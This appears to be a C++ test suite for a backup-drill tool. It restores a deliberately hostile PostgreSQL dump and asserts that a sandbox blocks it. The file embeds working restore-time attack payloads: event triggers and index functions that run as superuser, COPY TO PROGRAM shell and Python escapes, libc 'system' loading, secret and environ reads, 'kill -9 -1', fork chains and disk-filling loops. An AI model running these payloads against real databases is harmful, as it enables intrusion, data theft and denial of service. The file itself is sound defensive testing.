#include "drill/drill.hpp"
#include "dump_fixture.hpp"
#include "postgres/cluster.hpp"
#include "postgres/drill_fence.hpp"
#include "process/descriptor.hpp"
#include "process/fence.hpp"
#include "process/process_table.hpp"
#include "store/store.hpp"
#include "support/tcp_listener.hpp"

#include <dlfcn.h>
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/statvfs.h>

#include <algorithm>
#include <atomic>
#include <fstream>
#include <iterator>
#include <map>
#include <sstream>

namespace backupwatch {
namespace {

/// What a program of the dump tries, started by COPY … TO PROGRAM. It runs in the data folder.
constexpr const char* hostile_program = R"(
import os, signal, socket
def attempt(name, work):
    try: print(f"{name}: done {work()!r}")
    except Exception as error: print(f"{name}: {error}")
def call(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as caller: caller.connect(address)
attempt("program to the network", lambda: call(socket.AF_INET, ("127.0.0.1", @listener@)))
attempt("program to a socket", lambda: call(socket.AF_UNIX, "@socket@/.s.PGSQL.@port@"))
attempt("program reads a file", lambda: open("@secret@").read())
attempt("program reads the state", lambda: open("@state@/state.db", "rb").read())
attempt("program writes the state", lambda: open("@state@/state.db", "r+b"))
attempt("program lists another dump", lambda: os.listdir("@neighbour@"))
attempt("program reads another dump", lambda: open("@neighbour@/toc.dat", "rb").read())
attempt("program writes another dump", lambda: open("@neighbour@/toc.dat", "r+b"))
attempt("program reads the environment", lambda: open("/proc/@pid@/environ").read())
attempt("program lists drills", lambda: os.listdir("@work@"))
attempt("program writes", lambda: open("@folder@/planted", "w"))
attempt("program kills the daemon", lambda: os.kill(@pid@, signal.SIGKILL))
attempt("program kills the source", lambda: os.kill(@server@, signal.SIGKILL))
)";

/// In the source it does nothing. Where it is restored, an index, a materialized view and an event
/// trigger run it as the superuser, and it notes in the file `loot` what came of it.
constexpr const char* hostile_schema = R"(
CREATE EXTENSION dblink;
CREATE EXTENSION postgres_fdw;
CREATE SERVER elsewhere FOREIGN DATA WRAPPER postgres_fdw
    OPTIONS (host '@socket@', port '@port@', dbname 'shop');
CREATE USER MAPPING FOR public SERVER elsewhere OPTIONS (user 'postgres', password_required 'false');
CREATE FOREIGN TABLE public.stolen (id int) SERVER elsewhere OPTIONS (table_name 'posts');
CREATE FUNCTION public.attempt(name text, statement text) RETURNS void LANGUAGE plpgsql AS $f$
DECLARE
    outcome text := 'done';
BEGIN
    BEGIN
        EXECUTE statement;
    EXCEPTION WHEN OTHERS THEN
        outcome := replace(SQLERRM, E'\n', ' ');
    END;
    EXECUTE format('COPY (SELECT %L) TO PROGRAM ''cat >> loot''', name || ': ' || outcome);
END $f$;

CREATE FUNCTION public.attack(who text) RETURNS int LANGUAGE plpgsql AS $f$
BEGIN
    IF current_database() <> 'restored' THEN RETURN 1; END IF;
    @attack@
    RETURN 1;
END $f$;
CREATE FUNCTION public.harmless(who text) RETURNS int IMMUTABLE LANGUAGE plpgsql
    AS 'BEGIN RETURN public.attack(who); END';
CREATE FUNCTION public.on_command() RETURNS event_trigger LANGUAGE plpgsql
    AS $f$ BEGIN PERFORM public.attack('event trigger'); END $f$;

CREATE TABLE public.posts AS SELECT 1 AS id;
)";

constexpr const char* hostile_objects = R"(
CREATE INDEX ON public.posts (public.harmless('index' || id::text));
CREATE MATERIALIZED VIEW public.summary AS SELECT public.attack('view') AS one FROM public.posts;
-- Filled after the other, while which the trigger is made.
CREATE MATERIALIZED VIEW public.summary_of_it AS SELECT one FROM public.summary;
CREATE EVENT TRIGGER tripwire ON ddl_command_start
    WHEN TAG IN ('REFRESH MATERIALIZED VIEW') EXECUTE FUNCTION public.on_command();
ALTER EVENT TRIGGER tripwire ENABLE ALWAYS;
)";

constexpr const char* every_way_out = R"(
    PERFORM public.attempt(who, 'SELECT 1');
    PERFORM public.attempt('dblink to a socket', $s$SELECT public.dblink_exec(
        'host=@socket@ port=@port@ user=postgres dbname=shop', 'CREATE TABLE broken_in ()')$s$);
    PERFORM public.attempt('dblink to the network', $s$SELECT public.dblink_connect(
        'host=127.0.0.1 port=@listener@ user=postgres connect_timeout=5')$s$);
    PERFORM public.attempt('foreign table', 'SELECT * FROM public.stolen');
    PERFORM public.attempt('subscription', $s$CREATE SUBSCRIPTION s CONNECTION
        'host=127.0.0.1 port=@listener@ connect_timeout=5' PUBLICATION p
        WITH (create_slot = false)$s$);
    PERFORM public.attempt('function in C', $s$CREATE FUNCTION public.native(text) RETURNS text
        LANGUAGE c AS '@library@', 'dblink_connect'$s$);
    PERFORM public.attempt('function of libc', $s$CREATE FUNCTION public.system(cstring) RETURNS int
        LANGUAGE c AS '@libc@', 'system'$s$);
    PERFORM public.attempt('read a file', $s$SELECT pg_read_file('@secret@')$s$);
    PERFORM public.attempt('copy a file', $s$COPY public.posts FROM '@secret@'$s$);
    PERFORM public.attempt('read the state',
        $s$SELECT pg_read_binary_file('@state@/state.db')$s$);
    PERFORM public.attempt('list another dump', $s$SELECT pg_ls_dir('@neighbour@')$s$);
    PERFORM public.attempt('read another dump',
        $s$SELECT pg_read_binary_file('@neighbour@/toc.dat')$s$);
    PERFORM public.attempt('write another dump', $s$COPY public.posts TO '@neighbour@/toc.dat'$s$);
    PERFORM public.attempt('read the environment', $s$SELECT pg_read_file('/proc/@pid@/environ')$s$);
    PERFORM public.attempt('list drills', $s$SELECT pg_ls_dir('@work@')$s$);
    PERFORM public.attempt('write a file', $s$COPY public.posts TO '@folder@/planted'$s$);
    PERFORM public.attempt('program', $s$COPY (SELECT 1) TO PROGRAM
        $p$python3 -I - >> loot 2>&1 <<'END'
@program@
END$p$ $s$);
)";

void replace_all(std::string& text, const std::string& name, const std::string& value) {
    const std::string mark = "@" + name + "@";
    for (auto at = text.find(mark); at != text.npos; at = text.find(mark)) {
        text.replace(at, mark.size(), value);
    }
}

std::string library_of(void* function) {
    Dl_info found{};
    EXPECT_NE(::dladdr(function, &found), 0);
    return fs::canonical(found.dli_fname);
}

/// What was left of a disk at the least, while somebody filled it.
class LeastFree {
  public:
    explicit LeastFree(fs::path disk) : disk_(std::move(disk)), watcher_([this] { watch(); }) {}
    ~LeastFree() { stop(); }
    LeastFree(const LeastFree&) = delete;
    LeastFree& operator=(const LeastFree&) = delete;

    /// Before it is unmounted.
    void stop() {
        is_over_ = true;
        if (watcher_.joinable()) watcher_.join();
    }
    std::uint64_t bytes() const { return bytes_; }
    std::uint64_t files() const { return files_; }

  private:
    void watch() {
        while (!is_over_) {
            struct statvfs now {};
            if (::statvfs(disk_.c_str(), &now) == 0) {
                bytes_ = std::min<std::uint64_t>(bytes_, now.f_bavail * now.f_frsize);
                files_ = std::min<std::uint64_t>(files_, now.f_favail);
            }
            std::this_thread::sleep_for(5ms);
        }
    }

    fs::path disk_;
    std::atomic<bool> is_over_ = false;
    std::uint64_t bytes_ = UINT64_MAX;
    std::uint64_t files_ = UINT64_MAX;
    std::thread watcher_;
};

class HostileDump : public DumpTest {
  protected:
    HostileDump() {
        ::chmod(directory_.path().c_str(), 0777);
        std::ofstream(secret_) << "4711\n";
        ::chmod(secret_.c_str(), 0666);
        fs::copy_file("/usr/lib/postgresql/15/lib/dblink.so", library_);
        ::chmod(library_.c_str(), 0755);
    }

    /// Ours, and the dump of another database, both open to every user: nothing but the fence is
    /// between them and whoever asks.
    void lay_state_and_neighbour() {
        run_on(loop_, Store::open(state_, clock_->now()));
        server_.execute("postgres", "CREATE TABLE IF NOT EXISTS orders AS SELECT 1 AS id");
        ::chmod(directory_.path().c_str(), 0777);
        server_.run("pg_dump", {"-Fd", "--file=" + neighbour_.string(), "--dbname=postgres"});
        for (const fs::path& folder : {state_, neighbour_}) {
            ::chmod(folder.c_str(), 0777);
            for (const auto& file : fs::directory_iterator(folder)) {
                ::chmod(file.path().c_str(), 0666);
            }
        }
    }

    static constexpr const char* no_keeper = "this kernel lists no children of a process";

    /// A database whose restore runs this as its superuser.
    void prepare(const std::string& attack) {
        std::string schema = hostile_schema;
        replace_all(schema, "attack", attack);
        replace_all(schema, "program", hostile_program);
        replace_all(schema, "socket", server_.socket_folder());
        replace_all(schema, "port", std::to_string(server_.port()));
        replace_all(schema, "server", std::to_string(server_.pid()));
        replace_all(schema, "pid", std::to_string(::getpid()));
        replace_all(schema, "listener", std::to_string(listener_.port()));
        replace_all(schema, "folder", directory_.path());
        replace_all(schema, "secret", secret_);
        replace_all(schema, "library", library_);
        replace_all(schema, "work", work_);
        replace_all(schema, "state", state_);
        replace_all(schema, "neighbour", neighbour_);
        replace_all(schema, "libc", library_of(reinterpret_cast<void*>(&::getpid)));
        server_.execute("shop", schema);
        server_.execute("shop", hostile_objects);
    }

    DrillReport drill(DrillJob job, const fs::path& work) {
        const auto source = make(plan());
        job.database = "shop";
        job.set = "nightly";
        job.source = source.get();
        job.backup = take(*source);
        // Whoever gets out may be waited for out there.
        job.settings.timeout = std::min<Duration>(job.settings.timeout, 2min);
        ProgressSink look = [&](const Progress& progress) {
            if (progress.phase == "verify" && loot_.empty()) loot_ = loot_in(work);
        };
        Driller driller(work, *clock_, pool_);
        return run_on(loop_, driller.run(std::move(job), look));
    }
    DrillReport drill(DrillJob job = {}) { return drill(std::move(job), work_); }

    static std::string loot_in(const fs::path& work) {
        for (const auto& entry : fs::directory_iterator(work)) {
            std::ifstream file(entry.path() / "data" / "loot");
            if (file) return {std::istreambuf_iterator<char>(file), {}};
        }
        return {};
    }

    /// A file in the data folder of the drill that runs.
    static std::optional<Descriptor> opened_in(const fs::path& work, const std::string& name) {
        std::error_code changing;
        for (const auto& entry : fs::directory_iterator(work, changing)) {
            Descriptor file(::open((entry.path() / "data" / name).c_str(), O_RDONLY | O_CLOEXEC));
            if (file) return file;
        }
        return {};
    }
    /// Also of one that was removed.
    static long size_of(const Descriptor& file) {
        struct stat status {};
        EXPECT_EQ(::fstat(file.get(), &status), 0);
        return status.st_size;
    }

    /// What came of each attempt; of several by that name, all say the same.
    std::map<std::string, std::string> outcomes() const {
        std::map<std::string, std::string> found;
        std::istringstream lines(loot_);
        for (std::string line; std::getline(lines, line);) {
            const auto colon = line.find(": ");
            const std::string name = line.substr(0, colon);
            const std::string outcome = colon == line.npos ? "" : line.substr(colon + 2);
            const auto [known, is_new] = found.emplace(name, outcome);
            EXPECT_EQ(known->second, outcome) << name;
        }
        return found;
    }

    void expect_unharmed(const fs::path& work) {
        EXPECT_TRUE(processes_in(work).empty());
        for (const auto& entry : fs::directory_iterator(work)) {
            EXPECT_EQ(entry.path().filename(), "templates");
        }
        EXPECT_EQ(server_.value("shop", "SELECT count(*) FROM posts"), "1");
        EXPECT_EQ(server_.value("shop", "SELECT to_regclass('broken_in') IS NULL"), "t");
        EXPECT_FALSE(listener_.was_called());
        EXPECT_FALSE(fs::exists(directory_ / "planted"));
        EXPECT_EQ(fs::file_size(secret_), 5u);
    }

    static int running_with(const std::string& words) {
        int count = 0;
        for (const pid_t pid : all_processes()) {
            std::ifstream file("/proc/" + std::to_string(pid) + "/cmdline");
            // Not by an iterator: it throws where the process has just gone.
            std::string line;
            std::getline(file, line);
            count += line.find(words) != line.npos;
        }
        return count;
    }

    const fs::path work_ = directory_ / "work";
    const fs::path secret_ = directory_ / "secret";
    const fs::path library_ = directory_ / "hostile.so";
    const fs::path state_ = directory_ / "state";
    const fs::path neighbour_ = directory_ / "neighbour";
    TcpListener listener_;
    std::string loot_;
};

TEST_F(HostileDump, that_tries_every_way_out_finds_none_and_restores) {
    if (!sandbox_gaps().empty()) GTEST_SKIP() << sandbox_gaps().front();
    lay_state_and_neighbour();
    const auto bytes = [](const fs::path& file) {
        std::ifstream stream(file, std::ios::binary);
        return std::string(std::istreambuf_iterator<char>(stream), {});
    };
    const std::string state = bytes(state_ / "state.db");
    const std::string neighbour = bytes(neighbour_ / "toc.dat");
    ASSERT_TRUE(state.starts_with("SQLite format 3") && neighbour.starts_with("PGDMP"));
    prepare(every_way_out);

    const DrillReport report = drill();

    EXPECT_EQ(bytes(state_ / "state.db"), state);
    EXPECT_EQ(bytes(neighbour_ / "toc.dat"), neighbour);
    EXPECT_EQ(report.result, DrillOutcome::Result::passed);
    EXPECT_EQ(report.verification.errors, std::vector<std::string>());
    for (const auto& skipped : report.verification.skipped) EXPECT_NE(skipped.what, "sandbox");
    auto found = outcomes();
    const std::pair<const char*, const char*> expected[] = {
        // All three of them ran it.
        {"index1", "done"},
        {"view", "done"},
        {"event trigger", "done"},
        {"dblink to a socket", "could not establish connection"},
        {"dblink to the network", "could not establish connection"},
        {"foreign table", "could not connect to server \"elsewhere\""},
        {"subscription", "Operation not permitted"},
        {"function in C", "Permission denied"},
        {"function of libc", "incompatible library"},
        {"read a file", "Permission denied"},
        {"copy a file", "Permission denied"},
        {"read the state", "Permission denied"},
        {"list another dump", "Permission denied"},
        {"read another dump", "Permission denied"},
        {"write another dump", "Permission denied"},
        {"read the environment", "Permission denied"},
        {"list drills", "Permission denied"},
        {"write a file", "Permission denied"},
        {"program", "done"},
        {"program to the network", "Operation not permitted"},
        {"program to a socket", "Operation not permitted"},
        {"program reads a file", "Permission denied"},
        {"program reads the state", "Permission denied"},
        {"program writes the state", "Permission denied"},
        {"program lists another dump", "Permission denied"},
        {"program reads another dump", "Permission denied"},
        {"program writes another dump", "Permission denied"},
        {"program reads the environment", "Permission denied"},
        {"program lists drills", "Permission denied"},
        {"program writes", "Permission denied"},
        {"program kills the daemon", "Operation not permitted"},
        {"program kills the source", "Operation not permitted"},
    };
    for (const auto& [name, outcome] : expected) {
        EXPECT_NE(found[name].find(outcome), std::string::npos) << name << ": " << found[name];
        found.erase(name);
    }
    EXPECT_TRUE(found.empty()) << found.begin()->first << ": " << found.begin()->second;
    expect_unharmed(work_);
}

TEST_F(HostileDump, that_runs_for_ever_is_ended_with_what_left_its_group_and_folder) {
    if (!fence_abilities().keeper) GTEST_SKIP() << no_keeper;
    const std::string stray = "98765." + std::to_string(::getpid());
    prepare(
        "COPY (SELECT 1) TO PROGRAM 'cd / && setsid sleep " + stray +
        " > /dev/null 2>&1 &'; PERFORM pg_sleep(1000);"
    );
    DrillJob job;
    job.settings.timeout = 30s;
    std::atomic<bool> has_ended = false;
    int strays = 0;
    std::thread watcher([&] {
        while (!has_ended && strays == 0) {
            std::this_thread::sleep_for(10ms);
            strays = running_with(stray);
        }
    });

    const DrillReport report = drill(std::move(job));

    has_ended = true;
    watcher.join();
    EXPECT_GT(strays, 0) << "nothing was started";
    EXPECT_EQ(running_with(stray), 0);
    EXPECT_EQ(report.result, DrillOutcome::Result::failed);
    ASSERT_EQ(report.verification.errors.size(), 1u);
    EXPECT_EQ(report.verification.errors[0], "no end of the drill within 30s");
    expect_unharmed(work_);
}

/// Processes that are never there for long: each starts the next and ends. They write a letter each
/// time into a file of the drill, and give up after a while.
constexpr const char* comets = R"(
    COPY (SELECT 1) TO PROGRAM $p$cat > /dev/null; exec 9>> beat; cd /; setsid sh -c '
left=200000
next() { printf . >&9; left=$((left - 1)); [ $left -gt 0 ] && next & exit; }
(next) & (next) & (next) &
' > /dev/null 2>&1 & $p$;
    PERFORM pg_sleep(1000);
)";

TEST_F(HostileDump, that_forks_away_for_ever_is_caught_up_with) {
    if (!fence_abilities().keeper) GTEST_SKIP() << no_keeper;
    prepare(comets);
    DrillJob job;
    job.settings.timeout = 15s;
    std::optional<Descriptor> beat;
    std::thread watcher([&] {
        for (int tries = 0; tries < 1500 && !beat; ++tries) {
            std::this_thread::sleep_for(10ms);
            beat = opened_in(work_, "beat");
        }
    });

    const DrillReport report = drill(std::move(job));

    watcher.join();
    ASSERT_TRUE(beat) << "nothing was started";
    const auto letters = size_of(*beat);
    std::this_thread::sleep_for(300ms);
    EXPECT_EQ(size_of(*beat), letters) << "it goes on";
    EXPECT_GT(letters, 1000) << "too slow to show anything";
    EXPECT_LT(letters, 600'000) << "they had given up before";
    EXPECT_EQ(report.result, DrillOutcome::Result::failed);
    for (const auto& skipped : report.verification.skipped) {
        const bool is_usual = skipped.what == "rows of the source" || skipped.what == "sandbox";
        EXPECT_TRUE(is_usual) << skipped.what << ": " << skipped.why;
    }
    expect_unharmed(work_);
}

TEST_F(HostileDump, that_ends_its_server_and_stays_is_ended) {
    if (!fence_abilities().keeper) GTEST_SKIP() << no_keeper;
    const std::string stray = "98764." + std::to_string(::getpid());
    prepare(
        "COPY (SELECT 1) TO PROGRAM 'read server < postmaster.pid; cd /; setsid sh -c \"sleep 1; "
        "kill -9 $server; exec sleep " +
        stray + "\" > /dev/null 2>&1 &'; PERFORM pg_sleep(1000);"
    );

    const DrillReport report = drill();

    EXPECT_EQ(running_with(stray), 0);
    EXPECT_EQ(report.result, DrillOutcome::Result::unknown);
    ASSERT_EQ(report.verification.errors.size(), 1u);
    EXPECT_NE(report.verification.errors[0].find("the throw-away server ended"), std::string::npos)
        << report.verification.errors[0];
    expect_unharmed(work_);
}

TEST_F(HostileDump, that_kills_all_it_can_ends_its_own_server_alone) {
    // It would be this test, and whoever started it.
    const bool is_held = drill_user() || fence_abilities().landlock >= 6;
    if (!is_held) GTEST_SKIP() << "may signal every process of ours here";
    prepare("COPY (SELECT 1) TO PROGRAM 'kill -9 -1';");

    const DrillReport report = drill();

    EXPECT_EQ(report.result, DrillOutcome::Result::unknown);
    ASSERT_EQ(report.verification.errors.size(), 1u);
    EXPECT_NE(report.verification.errors[0].find("the throw-away server ended"), std::string::npos)
        << report.verification.errors[0];
    expect_unharmed(work_);
}

TEST_F(HostileDump, that_gives_our_process_for_its_own_does_not_have_us_wait_behind_others) {
    // What reads the tables back asks its session which process it is, to make that one nicer.
    prepare(
        "SET allow_system_table_mods = on; CREATE OR REPLACE FUNCTION pg_catalog.pg_backend_pid() "
        "RETURNS int LANGUAGE sql AS 'SELECT @pid@';"
    );
    server_.execute(
        "shop", "DROP INDEX posts_harmless_idx; DROP MATERIALIZED VIEW summary CASCADE"
    );
    server_.execute("shop", "ALTER TABLE posts ADD CHECK (public.harmless('check') = 1)");
    const int nice = ::getpriority(PRIO_PROCESS, 0);

    const DrillReport report = drill();

    EXPECT_EQ(::getpriority(PRIO_PROCESS, 0), nice);
    EXPECT_EQ(report.result, DrillOutcome::Result::passed);
    EXPECT_EQ(report.verification.errors, std::vector<std::string>());
    expect_unharmed(work_);
}

TEST_F(HostileDump, that_fills_memory_cannot_be_told_and_says_why) {
    prepare(
        "PERFORM count(a) FROM (SELECT array_agg(repeat('x', 1000)) AS a "
        "FROM generate_series(1, 5000000)) AS big;"
    );
    DrillJob job;
    job.address_space = 1200ull << 20;

    const DrillReport report = drill(std::move(job));

    EXPECT_EQ(report.result, DrillOutcome::Result::unknown);
    ASSERT_EQ(report.verification.errors.size(), 1u);
    EXPECT_NE(report.verification.errors[0].find("out of memory"), std::string::npos)
        << report.verification.errors[0];
    expect_unharmed(work_);
}

TEST_F(HostileDump, that_fills_the_disk_is_ended_while_others_can_still_write) {
    const fs::path disk = directory_ / "disk";
    fs::create_directory(disk);
    if (::mount("tmpfs", disk.c_str(), "tmpfs", 0, "size=1g,mode=0711") != 0) {
        GTEST_SKIP() << "may not mount a small disk here";
    }
    prepare(
        "COPY (SELECT 1) TO PROGRAM "
        "'while :; do head -c 8M /dev/zero >> filler; sleep 0.2; done';"
    );

    std::ofstream(disk / "others") << std::string(500 << 20, 'x');
    LeastFree left(disk);

    const DrillReport report = drill(DrillJob(), disk / "work");

    left.stop();
    expect_unharmed(disk / "work");
    ::umount(disk.c_str());
    EXPECT_EQ(report.result, DrillOutcome::Result::unknown);
    ASSERT_EQ(report.verification.errors.size(), 1u);
    const std::string& why = report.verification.errors[0];
    EXPECT_NE(why.find("left of 1.07 GB, and a drill leaves 53.6 MB"), why.npos) << why;
    // Of 53.6 MB; the rest was written between two looks.
    EXPECT_GT(left.bytes(), 25'000'000u);
    EXPECT_LT(left.bytes(), 53'700'000u);
}

TEST_F(HostileDump, that_takes_all_inodes_is_ended_while_others_can_still_make_files) {
    const fs::path disk = directory_ / "disk";
    fs::create_directory(disk);
    if (::mount("tmpfs", disk.c_str(), "tmpfs", 0, "size=1g,nr_inodes=40k,mode=0711") != 0) {
        GTEST_SKIP() << "may not mount a small disk here";
    }
    prepare(
        "COPY (SELECT 1) TO PROGRAM 'mkdir many && cd many && n=1000; while :; do "
        "touch $(seq $n $((n + 999))); n=$((n + 1000)); sleep 0.2; done';"
    );
    LeastFree left(disk);

    const DrillReport report = drill(DrillJob(), disk / "work");

    left.stop();
    expect_unharmed(disk / "work");
    ::umount(disk.c_str());
    EXPECT_EQ(report.result, DrillOutcome::Result::unknown);
    ASSERT_EQ(report.verification.errors.size(), 1u);
    const std::string& why = report.verification.errors[0];
    EXPECT_NE(why.find("more files (inodes) of 40960, and a drill leaves that of 2048"), why.npos)
        << why;
    EXPECT_GT(left.files(), 0u);
    EXPECT_LT(left.files(), 2048u);
}

TEST_F(HostileDump, that_takes_the_disk_at_once_cannot) {
    if (!fence_abilities().seccomp) GTEST_SKIP() << "this kernel filters no system calls";
    const fs::path disk = directory_ / "disk";
    fs::create_directory(disk);
    if (::mount("tmpfs", disk.c_str(), "tmpfs", 0, "size=1g,mode=0711") != 0) {
        GTEST_SKIP() << "may not mount a small disk here";
    }
    prepare(
        "PERFORM public.attempt('take all', $s$COPY (SELECT 1) TO PROGRAM "
        "'fallocate --length 1000000000 filler'$s$);"
    );

    const DrillReport report = drill(DrillJob(), disk / "work");

    expect_unharmed(disk / "work");
    ::umount(disk.c_str());
    EXPECT_EQ(report.result, DrillOutcome::Result::passed);
    EXPECT_NE(loot_.find("take all: program \"fallocate"), loot_.npos) << loot_;
}

TEST_F(HostileDump, whose_roles_are_commands_of_psql_starts_nothing_by_them) {
    if (fence_abilities().landlock == 0) GTEST_SKIP() << "this kernel fences nobody from files";
    server_.execute("shop", "CREATE TABLE posts AS SELECT 1 AS id");
    const auto source = make(plan());
    const Backup backup = take(*source);
    const Manifest manifest = run_on(loop_, source->manifest(backup.id));
    const Sandbox where = sandbox();
    run_on(loop_, source->fetch(backup.id, where, {}));
    // Any shell would end it.
    std::ofstream(where.folder / "globals.sql", std::ios::app)
        << "\\! kill -9 $PPID\n\\o " << secret_.string() << "\nSELECT 1;\n";

    const auto restored = run_on(loop_, source->restore(manifest, where, [](auto&) {}, {}));

    EXPECT_EQ(restored.errors, std::vector<std::string>());
    EXPECT_EQ(server_.value("restored", "SELECT count(*) FROM posts"), "1");
    EXPECT_EQ(fs::file_size(secret_), 5u);
    server_.execute("postgres", "DROP DATABASE restored WITH (FORCE)");
}

}  // namespace
}  // namespace backupwatch
